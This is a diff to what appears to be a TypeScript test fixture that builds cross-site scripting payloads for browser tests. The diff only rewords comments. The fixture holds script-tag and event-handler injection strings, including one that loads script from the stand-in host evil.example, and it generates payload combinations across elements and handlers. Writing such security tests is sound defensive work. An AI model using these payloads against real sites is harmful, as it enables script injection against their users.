@@ -1,5 +1,5 @@
 const evil = 'https://evil.example'
-/** What somebody types who hopes that it is taken for markup or script; where it succeeds it asks `evil`, or opens a dialog. */
+/** Input of an attacker who tries to inject markup or script. If it succeeds, it requests `evil` or opens a dialog. */
 export const hostileStrings = [
   '<script>alert(1)</script>',
   `<script src="${evil}/x.js"></script>`,
@@ -47,12 +47,12 @@ const elements = [
 ]
 const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onanimationstart']
 
-/** The same hope in every element with every handler, where there is time for so many. */
+/** The same attack with every handler on every element, for journeys that have time for so many. */
 export const hostileElements = elements.flatMap((element) =>
   handlers.map((handler) => `"'>${element} ${handler}=alert(1)>`),
 )
 
-/** Several to a text, as many as fit into `max` characters, where every text costs a page of its own. */
+/** Several per text, as many as fit into `max` characters, where every text requires a page load. */
 export function packed(texts: string[], max: number): string[] {
   const packs: string[] = []
   for (const text of texts.filter(({ length }) => length <= max)) {
